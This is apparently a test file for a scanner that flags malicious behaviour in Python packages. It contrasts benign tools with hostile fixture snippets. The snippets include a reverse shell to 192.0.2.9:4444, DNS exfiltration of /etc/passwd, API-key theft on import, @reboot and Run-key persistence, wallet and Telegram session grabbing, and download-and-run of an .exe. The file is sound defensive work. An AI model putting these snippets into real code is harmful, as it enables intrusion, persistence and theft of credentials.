// What real tools do when their user asks (found on a fresh sample of Debian's python3-* packages): push with git,
// download with wget, manage cron, send their own API key, authenticate over SSH, look up the user's address,
// register a namespace package. Each stays a capability (low) when called, and each test keeps the malicious
// shape it must not be confused with at medium or above.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePth } from '../../src/analysis/pth.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

test('a cron job or systemd unit written by code the user calls is low; an @reboot job or a Run key stays medium', () => {
  const cronD = findings(
    'def schedule(name, line):\n    with open("/etc/cron.d/%s" % name, "w") as fp:\n        fp.write(line)\n',
  );
  assert.equal(ruleOf(cronD, 'persistence')?.severity, 'low');
  const reboot = findings(
    'import subprocess\ndef persist(script):\n    subprocess.run(["crontab", "-"], input=("@reboot python3 " + script).encode())\n',
  );
  assert.equal(ruleOf(reboot, 'persistence')?.severity, 'medium');
  const runKey = findings(
    'import winreg\ndef persist(exe):\n    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n    winreg.SetValueEx(k, "u", 0, winreg.REG_SZ, exe)\n',
  );
  assert.equal(ruleOf(runKey, 'persistence')?.severity, 'medium');
  const onImport = findings('import os\nos.system("echo \'0 * * * * /tmp/u\' | crontab -l")\n');
  assert.equal(ruleOf(onImport, 'persistence')?.severity, 'high', 'cron touched by code that runs on import');
});

test('a program that reaches the network, run when called, is low unless its destination is a shady one', () => {
  const push = findings(
    'import subprocess\ndef release(tag):\n    subprocess.check_call(["git", "push", "origin", tag])\n',
  );
  assert.equal(ruleOf(push, 'process-network-tool')?.severity, 'low');
  const ssh = findings('import os\ndef remote(host, cmd):\n    os.system("ssh %s %s" % (host, cmd))\n');
  assert.equal(ruleOf(ssh, 'process-network-tool')?.severity, 'low');
  const toIp = findings('import os\ndef get():\n    os.system("wget -q http://192.0.2.7/x -O /tmp/x")\n');
  assert.equal(ruleOf(toIp, 'process-network-tool')?.severity, 'medium');
  const onImport = findings('import os\nos.system("git push origin main")\n');
  assert.equal(ruleOf(onImport, 'process-network-tool')?.severity, 'medium');
});

test("a client sending its own API key, or the platform's name, to its service when called is low", () => {
  const key = findings(
    'import os, requests\ndef price(sym):\n    return requests.get("https://www.quandl.example/api/%s.json" % sym, params={"api_key": os.environ["QUANDL_API_KEY"]})\n',
  );
  assert.equal(ruleOf(key, 'exfiltration')?.severity, 'low');
  const platformName = findings(
    'import platform, urllib.request\ndef fetch(v):\n    return urllib.request.urlopen("https://get.tool.example/%s-%s.tar.gz" % (v, platform.system()))\n',
  );
  assert.ok(['low', undefined].includes(ruleOf(platformName, 'exfiltration')?.severity));
  // the same key sent by code that runs on import, or to a raw address, is not a client at work
  const onImport = findings(
    'import os, requests\nrequests.post("https://sync.example/k", data={"k": os.environ["QUANDL_API_KEY"]})\n',
  );
  assert.equal(ruleOf(onImport, 'exfiltration')?.severity, 'high');
  const toAddress = findings(
    'import os, requests\ndef go():\n    requests.post("http://192.0.2.7/k", data={"k": os.environ["SERVICE_API_KEY"]})\n',
  );
  assert.ok(['medium', 'high', 'critical'].includes(ruleOf(toAddress, 'exfiltration')?.severity ?? ''));
});

test('where a download is saved and the key that signs an SSH login are not sent; data built into a host name is', () => {
  const saved = findings(
    'import os\nfrom urllib.request import urlretrieve\ndef get(code):\n    urlretrieve("http://files.example/" + code, os.path.join(os.getcwd(), code))\n',
  );
  assert.equal(ruleOf(saved, 'exfiltration'), undefined);
  const ssh = findings(
    [
      'import os, paramiko',
      'def login(address, user):',
      '    cfg = paramiko.SSHConfig()',
      '    with open(os.path.join(os.path.expanduser("~"), ".ssh", "config")) as f:',
      '        cfg.parse(f)',
      '        host = cfg.lookup(address)["hostname"]',
      '    key = os.path.expanduser("~/.ssh/id_rsa")',
      '    c = paramiko.SSHClient()',
      '    c.connect(host, 22, user, key_filename=key)',
    ].join('\n'),
  );
  assert.equal(ruleOf(ssh, 'exfiltration'), undefined);
  const dns = findings(
    [
      'import socket',
      'def leak():',
      '    data = open("/etc/passwd").read().encode().hex()[:60]',
      '    name = data + ".dns.example"',
      '    socket.gethostbyname(name)',
    ].join('\n'),
  );
  assert.ok(ruleOf(dns, 'exfiltration'), 'system accounts spelt into the host name a DNS query asks for');
});

test("a tool that finds the user's address in one command and names the host in another is not a recon probe", async () => {
  const tool = await analyseFiles({
    'tool/firewall.py': 'import requests\ndef my_ip():\n    return requests.get("https://api.ipify.org").text\n',
    'tool/report.py':
      'import socket, requests\ndef register(url):\n    requests.post(url, json={"host": socket.gethostname()})\n',
  });
  assert.ok(!tool.reasons.some((reason) => /public address/.test(reason)), tool.reasons.join(' | '));
  assert.notEqual(tool.risk, 'high');
  assert.equal(
    tool.files.find((file) => file.path === 'tool/firewall.py')?.findings.find((f) => f.rule === 'egress-network-call')
      ?.severity,
    'low',
    'an IP lookup the user asks for',
  );
  const probe = await analyseFiles({
    'probe/__init__.py':
      'import socket, requests\nip = requests.get("https://api.ipify.org").text\nrequests.post("https://sync.example/c", json={"h": socket.gethostname(), "ip": ip})\n',
  });
  assert.ok(probe.reasons.some((reason) => /public address/.test(reason)));
});

test('a downloader and a program launch are not joined through an IP lookup', async () => {
  const tool = await analyseFiles({
    'tool/net.py': 'import requests\ndef my_ip():\n    return requests.get("https://api.ipify.org").text\n',
    'tool/run.py': 'import subprocess\ndef ps():\n    return subprocess.Popen(["docker.exe", "ps"])\n',
  });
  assert.ok(
    !tool.reasons.some((reason) => /^downloads from the network and launches/.test(reason)),
    tool.reasons.join(' | '),
  );
});

test('pip installing the folder it stands in is low; a named package on import stays medium', () => {
  const local = findings('import os\nos.system("pip install .")\n');
  assert.equal(ruleOf(local, 'process-pip-install')?.severity, 'low');
  const named = findings('import os\nos.system("pip install colorama")\n');
  assert.equal(ruleOf(named, 'process-pip-install')?.severity, 'medium');
});

test('__import__ of a name written out is low on import; one assembled at run time stays raised', () => {
  const written = findings('B = __import__("builtins")\n');
  assert.equal(ruleOf(written, 'dynamic-import')?.severity, 'low');
  const assembled = findings('B = __import__("".join(["bui", "ltins"]))\n');
  assert.equal(ruleOf(assembled, 'dynamic-import')?.severity, 'medium');
});

test('netmasks and network addresses are not endpoints; a wallet word inside a host name is not a wallet', () => {
  const masks = findings(
    'MASKS = {1: "128.0.0.0", 2: "192.0.0.0", 16: "255.255.0.0"}\nNETS = ["10.1.0.0"]\nX = MASKS\n',
  );
  assert.equal(ruleOf(masks, 'hardcoded-endpoint'), undefined);
  const host = findings('SEEDS = ["lseed.bitcoinstats.example"]\nUA = "Electrum/4.3"\nMOD = "electrum/gui/main.qml"\n');
  assert.equal(ruleOf(host, 'sensitive-file-access'), undefined);
  const wallet = findings(
    'import os\ndef grab():\n    return os.path.join(os.path.expanduser("~"), ".electrum", "wallets")\n',
  );
  assert.match(ruleOf(wallet, 'sensitive-file-access')?.message ?? '', /crypto wallets/);
});

test("setuptools' namespace-package .pth lines are not taken as a large hidden payload; other long lines are", () => {
  const level = (names: string[]) => {
    const dotted = `'${names.join('.')}'`;
    const tuple = `*(${names.map((n) => `'${n}'`).join(', ')}${names.length === 1 ? ',' : ''})`;
    const parent =
      names.length > 1 ? `;m and setattr(sys.modules['${names.slice(0, -1).join('.')}'], '${names.at(-1)}', m)` : '';
    return `import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], ${tuple});importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault(${dotted}, importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec(${dotted}, [os.path.dirname(p)])));m = m or sys.modules.setdefault(${dotted}, types.ModuleType(${dotted}));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)${parent}`;
  };
  const namespace = [level(['demo']), level(['demo']), level(['demo', 'sub'])].join('\n');
  assert.ok(namespace.length > 1024);
  const pth = (text: string) =>
    analyzePth('demo-nspkg.pth', new TextEncoder().encode(text))[0].findings.find(
      (f) => f.rule === 'pth-executes-code',
    );
  assert.equal(pth(namespace)?.severity, 'low');
  // the same lines with anything added are ordinary code again, and their length counts
  const altered = namespace.replaceAll('(p not in mp)', '(p not in mp) and len(sys.path)');
  assert.notEqual(pth(altered)?.severity, 'low');
});

test('a cron library: its table of locations and its @reboot keyword are data; a boot job running a command is not', () => {
  const table = findings(
    'KNOWN = [\n  (1, "/var/spool/cron/crontabs/"),\n  (2, "/etc/crontab"),\n  (3, "/etc/cron.d/"),\n]\nSPECIALS = {"reboot": "@reboot", "hourly": "0 * * * *", "daily": "0 0 * * *"}\n',
  );
  assert.ok(
    table.filter((f) => f.rule === 'persistence').every((f) => f.severity === 'low'),
    JSON.stringify(table.map((f) => [f.rule, f.severity])),
  );
  const keyword = findings('class Job:\n    def every_reboot(self):\n        return self.setall("@reboot")\n');
  assert.equal(ruleOf(keyword, 'persistence')?.severity, 'low');
});

test('a python -c script that mentions sys.stdout.fileno() in its text is not a socket wired to a process', () => {
  const source = [
    'import socket, subprocess, sys',
    'def probe():',
    '    socket.create_connection(("files.example", 80))',
    '    subprocess.Popen([sys.executable, "-c", "import os, sys\\nos.write(sys.stdout.fileno(), sys.stdin.read(4))"], stdout=subprocess.PIPE)',
  ].join('\n');
  assert.equal(ruleOf(findings(source), 'reverse-shell'), undefined);
  const wired = [
    'import socket, subprocess',
    'def shell():',
    '    s = socket.create_connection(("192.0.2.9", 4444))',
    '    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
  ].join('\n');
  assert.equal(ruleOf(findings(wired), 'reverse-shell')?.severity, 'high');
});

test("a project's own tdata folder is not Telegram's session store; Telegram Desktop's is", () => {
  const own = findings('HELP = "more in xfel/merging/application/tdata/README.md"\ndef f():\n    return open(HELP)\n');
  assert.equal(ruleOf(own, 'sensitive-file-access'), undefined);
  const store = findings(
    'import os\ndef grab():\n    return os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")\n',
  );
  assert.match(ruleOf(store, 'sensitive-file-access')?.message ?? '', /Telegram session/);
});

test("a host kept in the package's config module is written out, not hidden", async () => {
  const report = await analyseFiles({
    'pkg/__init__.py': 'DOWNLOADS_URL = "https://downloads.tool.example"\n',
    'pkg/get.py':
      'import requests\nfrom pkg import DOWNLOADS_URL\ndef get(name):\n    return requests.get(DOWNLOADS_URL + "/api/" + name)\n',
  });
  const call = report.files
    .find((file) => file.path === 'pkg/get.py')
    ?.findings.find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.destination?.host, 'downloads.tool.example');
  assert.equal(call?.severity, 'low');
  assert.doesNotMatch(call?.message ?? '', /never writes/);
});

test("a chat service's CDN address built when called is low; on import it stays medium", () => {
  const avatar = findings(
    'AVATAR = "https://cdn.discordapp.com/avatars/{id}/{avatar}.png"\ndef url(u):\n    return AVATAR.format(id=u.id, avatar=u.avatar)\n',
  );
  assert.equal(ruleOf(avatar, 'hardcoded-endpoint')?.severity, 'medium', 'a module constant, defined on import');
  const inFunction = findings('def url(u):\n    return "https://cdn.discordapp.com/avatars/%s.png" % u\n');
  assert.equal(ruleOf(inFunction, 'hardcoded-endpoint')?.severity, 'low');
});

test("a chat service's API asked when called is low; the same request on import is not", () => {
  const login = findings(
    'import requests\ndef me(token):\n    return requests.get("https://discord.com/api/users/@me", headers={"Authorization": token})\n',
  );
  assert.equal(ruleOf(login, 'egress-network-call')?.severity, 'low');
  const onImport = findings('import requests\nrequests.get("https://discord.com/api/users/@me")\n');
  assert.ok(['medium', 'high'].includes(ruleOf(onImport, 'egress-network-call')?.severity ?? ''));
});

test('the word Tdata as a data field name is not a Telegram session', () => {
  const field = findings('def read(node):\n    return node.find("Tdata")\n');
  assert.equal(ruleOf(field, 'sensitive-file-access'), undefined);
  const keys = findings('import os\ndef grab(base):\n    return os.path.join(base, "tdata", "key_datas")\n');
  assert.match(ruleOf(keys, 'sensitive-file-access')?.message ?? '', /Telegram session/);
});

test('an option first on a command line (its program a setting that folded to nothing) is no hidden program', () => {
  const source =
    'import subprocess\nPROGRAM = ""\ndef refine(name):\n    subprocess.Popen(PROGRAM + " -b" + str(3000) + " " + name, shell=True)\n';
  const found = findings(source).find((f) => f.capability === 'process');
  assert.ok(found);
  assert.doesNotMatch(found.message, /written nowhere/);
  assert.notEqual(found.severity, 'high');
});

test('a downloaded page written to a temporary .html file and opened is shown, not run; an .exe suffix is run', () => {
  const source = (suffix: string) =>
    [
      'import os, tempfile, requests',
      'def show(url):',
      `    file = tempfile.mktemp(suffix="${suffix}")`,
      '    with open(file, "wb") as fd:',
      '        fd.write(requests.get(url).content)',
      '    os.startfile(file)',
    ].join('\n');
  assert.equal(ruleOf(findings(source('.html')), 'download-execute'), undefined);
  assert.equal(ruleOf(findings(source('.exe')), 'download-execute')?.severity, 'high');
});
